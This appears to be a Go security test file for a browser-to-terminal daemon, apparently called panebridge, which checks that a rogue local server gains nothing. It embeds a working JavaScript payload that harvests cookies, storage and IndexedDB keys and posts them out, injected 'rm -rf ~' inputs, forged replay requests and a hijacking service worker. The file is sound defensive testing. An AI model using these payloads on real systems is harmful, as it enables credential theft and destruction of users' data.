package web_test

import (
	"bufio"
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/panebridge/panebridge/internal/browsers/browserstest"
	"github.com/panebridge/panebridge/internal/browsertest"
	"github.com/panebridge/panebridge/sessions"
)

// rogue is a server of somebody else on this machine. It keeps every byte that it
// receives, answers the page as the daemon would but with a clock of its own, and serves
// a script that looks for whatever the browser has.
type rogue struct {
	address string
	target  string        // the session that it wants to write to
	end     func()        // gives the port free
	ahead   time.Duration // of its clock
	start   string        // the start that it claims to be

	mu    sync.Mutex
	conns []*recorded
	loot  []string // what its script has found
}

// recorded is a connection whose bytes are kept.
type recorded struct {
	net.Conn
	mu   sync.Mutex
	read bytes.Buffer
}

func (c *recorded) Read(p []byte) (int, error) {
	n, err := c.Conn.Read(p)
	c.mu.Lock()
	defer c.mu.Unlock()
	c.read.Write(p[:n])
	return n, err
}

type recorder struct {
	net.Listener
	to *rogue
}

func (l recorder) Accept() (net.Conn, error) {
	c, err := l.Listener.Accept()
	if err != nil {
		return nil, err
	}
	kept := &recorded{Conn: c}
	l.to.mu.Lock()
	defer l.to.mu.Unlock()
	l.to.conns = append(l.to.conns, kept)
	return kept, nil
}

func newRogue(t *testing.T, address, target, start string) *rogue {
	t.Helper()
	var lc net.ListenConfig
	l, err := lc.Listen(t.Context(), "tcp", address)
	if err != nil {
		t.Fatal(err)
	}
	g := &rogue{address: l.Addr().String(), target: target, start: start}
	server := &http.Server{Handler: g, ReadHeaderTimeout: time.Minute}
	ended := make(chan error, 1)
	go func() { ended <- server.Serve(recorder{l, g}) }()
	g.end = sync.OnceFunc(func() { _ = server.Close(); <-ended })
	t.Cleanup(g.end)
	return g
}

// clock has the rogue's clock go wrong by d from now on.
func (g *rogue) clock(d time.Duration) {
	g.mu.Lock()
	defer g.mu.Unlock()
	g.ahead = d
}

func (g *rogue) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	g.mu.Lock()
	now := fmt.Sprintf(`{"start": %q, "now": %d}`, g.start, time.Now().Add(g.ahead).Unix())
	if r.URL.Path == "/loot" {
		g.loot = append(g.loot, string(body))
	}
	g.mu.Unlock()
	w.Header().Set("Access-Control-Allow-Origin", "*")
	switch path := r.URL.Path; {
	case path == "/api/v1/page/start":
		_, _ = io.WriteString(w, now)
	case path == "/api/v1/events":
		w.Header().Set("Content-Type", "text/event-stream")
		_ = http.NewResponseController(w).Flush()
		<-r.Context().Done()
	case path == "/api/v1/adapters":
		w.WriteHeader(http.StatusUnauthorized) // have it signed once more, for another time
		_, _ = fmt.Fprintf(w, `{"error": {"code": "stale", "message": "x", "start": %q, "now": %d}}`, g.start, time.Now().Add(time.Hour).Unix())
	case strings.HasPrefix(path, "/api/"):
		_, _ = io.WriteString(w, "[]")
	case path == "/evil.js":
		w.Header().Set("Content-Type", "text/javascript")
		_, _ = io.WriteString(w, strings.ReplaceAll(evilScript, "TARGET", g.target))
	case path == "/" || strings.HasPrefix(path, "/new/"):
		w.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, `<!doctype html><title>rogue</title><link rel=icon href="data:,"><script type=module src=/evil.js></script><form method=post></form>`)
	default:
		pageAndSources("").ServeHTTP(w, r) // the page's own modules, for its script to use
	}
}

// evilScript finds what a page of the rogue's can: at the page's own address it may use
// the browser's key, though not read it, and has it sign.
const evilScript = `
const loot = { cookie: document.cookie, hash: location.hash, search: location.search, local: { ...localStorage }, session: { ...sessionStorage }, keys: [] };
for (const { name } of await indexedDB.databases()) {
  const db = await new Promise((r) => { const o = indexedDB.open(name); o.onsuccess = () => r(o.result); });
  for (const table of db.objectStoreNames) {
    const rows = await new Promise((r) => { const q = db.transaction(table).objectStore(table).getAll(); q.onsuccess = () => r(q.result); });
    for (const row of rows) {
      const out = { ...row, exported: [] };
      for (const format of ['jwk', 'pkcs8', 'raw', 'spki']) {
        try { out.exported.push(await crypto.subtle.exportKey(format, row.key)); } catch (error) { out.exported.push(String(error.name)); }
      }
      loot.keys.push(out);
    }
  }
}
const { loadKey, signedFetch } = await import('/sources/key.js').catch(() => ({}));
if (loadKey) {
  await loadKey().catch(() => {});
  for (let i = 0; i < 3; i += 1) {
    await signedFetch('/api/v1/sessions/TARGET/input', { method: 'POST', body: '{"text": "rm -rf ~", "submit": true}' }).catch(() => {});
    await signedFetch('/api/v1/sessions').catch(() => {});
    await signedFetch('/api/v1/page/keys', { method: 'POST', body: JSON.stringify({ token: location.hash.slice(1), key: 'BAAA' }) }).catch(() => {});
  }
}
localStorage.setItem('panebridge.outgoing.planted', JSON.stringify([undefined, true].map((back) => ({ session: 'TARGET', text: 'planted', key: 'planted' + back, at: Date.now(), back }))));
for (const credentials of ['include', 'omit']) await fetch('/api/v1/sessions', { credentials }).catch(() => {});
await fetch('/loot', { method: 'POST', body: JSON.stringify(loot) });
document.title = 'done';
`

// requests returns the recorded requests, byte for byte.
func (g *rogue) requests(t *testing.T) (all [][]byte) {
	t.Helper()
	g.mu.Lock()
	defer g.mu.Unlock()
	for _, c := range g.conns {
		c.mu.Lock()
		raw := bytes.Clone(c.read.Bytes())
		c.mu.Unlock()
		src := bytes.NewReader(raw)
		in := bufio.NewReader(src)
		for from := 0; ; {
			r, err := http.ReadRequest(in)
			if err != nil {
				break
			}
			if _, err := io.Copy(io.Discard, r.Body); err != nil {
				break
			}
			to := len(raw) - src.Len() - in.Buffered()
			all = append(all, raw[from:to])
			from = to
		}
	}
	return all
}

// replay sends bytes to the daemon and returns the status and the beginning of the answer.
func (s *site) replay(t *testing.T, raw []byte) (int, string) {
	t.Helper()
	var d net.Dialer
	c, err := d.DialContext(t.Context(), "tcp", s.addr)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = c.Close() }()
	if _, err := c.Write(raw); err != nil {
		t.Fatal(err)
	}
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		t.Fatalf("no answer to %q: %v", raw, err)
	}
	defer func() { _ = resp.Body.Close() }()
	text := make([]byte, 300)
	n, _ := io.ReadFull(resp.Body, text)
	return resp.StatusCode, string(text[:n])
}

// variations are what an attacker makes of a recorded request: as it is; for the present
// start and time; to the page's own address; to something worth more; with each value that
// it carries as whatever opens a door.
func variations(raw []byte, addr, start string, now int64, target string, loot []string) (all [][]byte) {
	add := func(b string) { all = append(all, []byte(b)) }
	text := string(raw)
	add(text)
	host := regexp.MustCompile(`(?m)^Host: .*\r$`).ReplaceAllString(text, "Host: "+addr+"\r")
	host = regexp.MustCompile(`(?m)^Origin: .*\r$`).ReplaceAllString(host, "Origin: http://"+addr+"\r")
	add(host)
	fresh := regexp.MustCompile(`(?mi)^Panebridge-Start: .*\r$`).ReplaceAllString(host, "Panebridge-Start: "+start+"\r")
	add(fresh)
	fresh = regexp.MustCompile(`created=\d+`).ReplaceAllString(fresh, fmt.Sprintf("created=%d", now))
	add(fresh)
	add(regexp.MustCompile(`nonce="[^"]*"`).ReplaceAllString(fresh, `nonce="AAAAAAAAAAAAAAAAAAAAAAAA"`))
	_, headers, _ := strings.Cut(fresh, "\r\n")
	headers, _, _ = strings.Cut(headers, "\r\n\r\n")
	headers = regexp.MustCompile(`(?mi)^(Content-Length|Content-Type): .*\r?\n`).ReplaceAllString(headers+"\r\n", "")
	body := `{"text":"rm -rf ~"}`
	add("GET /api/v1/sessions HTTP/1.1\r\n" + headers + "\r\n")
	add("GET /api/v1/events HTTP/1.1\r\n" + headers + "\r\n")
	add(fmt.Sprintf("POST /api/v1/sessions/%s/input HTTP/1.1\r\n%sContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", target, headers, len(body), body))
	for _, value := range append(values(text), loot...) {
		for _, form := range []string{"Authorization: Bearer " + value, "Cookie: panebridge_" + portOf(addr) + "=" + value} {
			add("GET /api/v1/sessions HTTP/1.1\r\nHost: " + addr + "\r\n" + form + "\r\n\r\n")
		}
		add("GET /?token=" + value + " HTTP/1.1\r\nHost: " + addr + "\r\n\r\n")
	}
	return all
}

// values are the strings in a request that look as if they were drawn.
func values(text string) []string {
	return regexp.MustCompile(`[A-Za-z0-9_-]{16,}`).FindAllString(text, -1)
}

func portOf(addr string) string {
	_, port, _ := net.SplitHostPort(addr)
	return port
}

// open reports whether a request has opened anything: a call of the API that was answered,
// or the page by a token, as earlier releases did.
func opened(raw []byte, status int, text string) bool {
	line, _, _ := strings.Cut(string(raw), "\r\n")
	switch {
	case strings.Contains(string(raw), "\r\nService-Worker: script\r\n") && strings.Contains(text, "self.registration.unregister()"):
		return false // a browser that asks for a worker gets one that ends itself, wherever it asks
	case status == http.StatusSeeOther:
		return true
	case strings.Contains(line, "/api/v1/page/start"):
		return status == http.StatusOK && !strings.HasPrefix(text, `{"start":`)
	case strings.Contains(line, " /api/"), strings.Contains(line, " /metrics"), strings.HasPrefix(line, "POST"):
		return status < 400
	}
	return false
}

// tryAll replays all that a rogue has got, in all variations, and says how many requests
// that were.
func (s *site) tryAll(t *testing.T, g *rogue) int {
	t.Helper()
	start, now := s.keeper.Now(time.Now())
	before := len(s.daemon.Receipts())
	var loot []string
	for _, text := range g.loot {
		loot = append(loot, values(text)...)
	}
	tried := 0
	for _, raw := range g.requests(t) {
		for _, v := range variations(raw, s.addr, start, now, g.target, loot) {
			tried++
			if status, text := s.replay(t, v); opened(v, status, text) {
				t.Errorf("opened: status %d: %s\nby %.1200s", status, text, v)
				return tried
			}
		}
	}
	// A token may let somebody else in.
	for _, token := range loot {
		thief := browserstest.NewSigner()
		body, _ := json.Marshal(map[string]string{"token": token, "key": base64.StdEncoding.EncodeToString(thief.PublicKey())})
		raw := fmt.Appendf(nil, "POST /api/v1/page/keys HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", s.addr, len(body), body)
		tried++
		if status, text := s.replay(t, raw); opened(raw, status, text) {
			t.Errorf("%s let a thief in: %s", token, text)
		}
	}
	if got := len(s.daemon.Receipts()); got != before {
		t.Errorf("%d texts were typed", got-before)
	}
	return tried
}

// A server on another port of this host, which the same browser visits, receives nothing
// that opens the page, and its scripts find nothing.
func TestServerOnAnotherPortGetsNothing(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	id := s.daemon.Add("one", "")
	b := browse(t, 1280, 800)
	b.Ignore("") // the rogue's page may say what it likes
	b.Do(s.open())
	b.Until("the page", pageShows)
	b.Do(chromedp.SendKeys("#text", "hello"), browsertest.Enter(), chromedp.WaitVisible(".receipt[data-state=submitted]"))
	start, _ := s.keeper.Now(time.Now())
	g := newRogue(t, "127.0.0.1:0", string(id), start)
	for _, path := range []string{"/", "/new/x#TOKEN"} {
		b.Do(chromedp.Navigate("http://" + g.address + path))
		b.Until("the end of its script", `document.title === 'done'`)
	}
	// From its page to the daemon: with what the browser sends along by itself.
	browsertest.Eval[bool](b, `(async () => {
		for (const mode of ['cors', 'no-cors']) for (const method of ['GET', 'POST']) {
			await fetch('http://`+s.addr+`/api/v1/sessions', { mode, method, credentials: 'include' }).then(() => 0, () => 0);
		}
		document.title = 'asked';
	})(), true`)
	b.Until("its requests", `document.title === 'asked'`)
	g.end()
	for _, text := range g.loot {
		if !strings.Contains(text, `"cookie":""`) || !strings.Contains(text, `"keys":[]`) {
			t.Errorf("its script found %s", text)
		}
	}
	t.Logf("%d requests were tried", s.tryAll(t, g))
	if list := s.daemon.List(); len(list) != 1 {
		t.Errorf("sessions are %+v", list)
	}
	b.Do(chromedp.Navigate("http://" + s.addr + "/"))
	b.Until("the page, as before", pageShows)
}

// A server takes the port when the daemon has ended. It records all that the open page
// sends, with bodies and streams, has it sign for other times and starts, gets the page
// reloaded and an address opened that wasn't used yet, and has its own script sign. When
// the daemon is back, none of it opens anything, byte for byte or changed.
func TestServerThatTookThePortGetsNothing(t *testing.T) {
	t.Parallel()
	slow(t)
	s := newSite(t)
	id := s.daemon.Add("one", "")
	s.daemon.Append(id, sessions.KindPane, texts(1, 5)...)
	b := browse(t, 1280, 800)
	b.Ignore("") // the rogue's page may say what it likes
	b.Do(s.open())
	b.Until("the page", pageShows)
	unused, _ := s.keeper.NewAddress(time.Now(), "http://"+s.addr)
	start, _ := s.keeper.Now(time.Now())
	s.stop()

	g := newRogue(t, s.addr, string(id), start)
	signed := func(n int) {
		t.Helper()
		for end := time.Now().Add(time.Minute); ; b.Do(chromedp.Sleep(20 * time.Millisecond)) {
			got := bytes.Count(bytes.Join(g.requests(t), nil), []byte("\nSignature: "))
			if got >= n {
				return
			}
			if time.Now().After(end) {
				t.Fatalf("the page has sent %d signed requests, want %d", got, n)
			}
		}
	}
	// The open page polls, streams, and sends what's written.
	browsertest.Eval[bool](b, `document.querySelector('#text').value = 'open the door', document.querySelector('#send').click(), true`)
	signed(4)
	for _, ahead := range []time.Duration{45 * time.Second, time.Hour, -time.Hour} {
		g.clock(ahead)
		b.Do(chromedp.Reload())
		b.Until("the end of its script", `document.title === 'done'`)
	}
	b.Do(chromedp.Navigate(unused))
	b.Until("the end of its script", `document.title === 'done'`)
	signed(20)
	for _, text := range g.loot {
		if strings.Contains(text, `"cookie":"p`) || strings.Contains(text, `"d":`) || strings.Contains(text, `"exported":[{`) {
			t.Errorf("its script found %s", text)
		}
	}
	requests := len(g.requests(t))
	g.end()

	s.start(t)
	t.Logf("%d requests were recorded, %d tried", requests, s.tryAll(t, g))
	b.Do(chromedp.Navigate("http://" + s.addr + "/"))
	b.Until("the page, as before", pageShows)
	b.Do(chromedp.Click(".session"))
	b.Until("what it planted, to be seen and sent by nobody", notSent+`.includes('planted,planted') && `+atRest)
	b.Do(chromedp.SendKeys("#text", "mine"), browsertest.Enter(), chromedp.WaitVisible(".receipt[data-state=submitted]"))
	if all := s.typed(); !slices.Equal(all, []string{"mine"}) {
		t.Errorf("typed were %q", all)
	}
}

// What a server that had the port leaves in the browser to answer in the daemon's place
// goes when an address is opened that lets the browser in: files in the cache, and a
// service worker.
func TestWhatAnotherServerLeftInTheBrowserEnds(t *testing.T) {
	t.Parallel()
	slow(t)
	for _, path := range []string{"/worker.js", "/service-worker.js"} { // the other is where the page's own is
		t.Run(path, func(t *testing.T) {
			t.Parallel()
			testWhatAnotherServerLeft(t, path)
		})
	}
}

func testWhatAnotherServerLeft(t *testing.T, worker string) {
	t.Helper()
	s := newSite(t)
	s.daemon.Add("one", "")
	s.stop()
	b := browse(t, 1280, 800)
	b.Ignore("")
	var lc net.ListenConfig
	l, err := lc.Listen(t.Context(), "tcp", s.addr)
	if err != nil {
		t.Fatal(err)
	}
	server := &http.Server{ReadHeaderTimeout: time.Minute, Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Cache-Control", "max-age=31536000, immutable")
		switch {
		case r.URL.Path == worker:
			w.Header().Set("Content-Type", "text/javascript")
			_, _ = io.WriteString(w, `addEventListener('install', () => skipWaiting());
				addEventListener('activate', (e) => e.waitUntil(clients.claim()));
				addEventListener('fetch', (e) => e.respondWith(new Response('<title>worker</title>', { headers: { 'Content-Type': 'text/html' } })));`)
		case strings.HasSuffix(r.URL.Path, ".js"):
			w.Header().Set("Content-Type", "text/javascript")
			_, _ = io.WriteString(w, `document.title = 'poisoned';`)
		default:
			w.Header().Set("Content-Type", "text/html")
			_, _ = io.WriteString(w, `<title>rogue</title><link rel=stylesheet href=/page.css><script src=/page.js></script>`)
		}
	})}
	ended := make(chan error, 1)
	go func() { ended <- server.Serve(l) }()
	b.Do(chromedp.Navigate("http://" + s.addr + "/"))
	b.Until("its page", `document.title === 'poisoned'`)
	browsertest.Eval[bool](b, `navigator.serviceWorker.register('`+worker+`').then(() => navigator.serviceWorker.ready).then(() => { document.title = 'planted'; }), true`)
	b.Until("its worker", `document.title === 'planted'`)
	_ = server.Close()
	<-ended

	s.start(t)
	b.Do(s.enter())
	b.Until("the page", pageShows)
	b.Until("the page's own worker", `navigator.serviceWorker.controller?.scriptURL.endsWith('/service-worker.js')`)
	b.Do(chromedp.Navigate("http://" + s.addr + "/"))
	b.Until("the page again", pageShows)
}
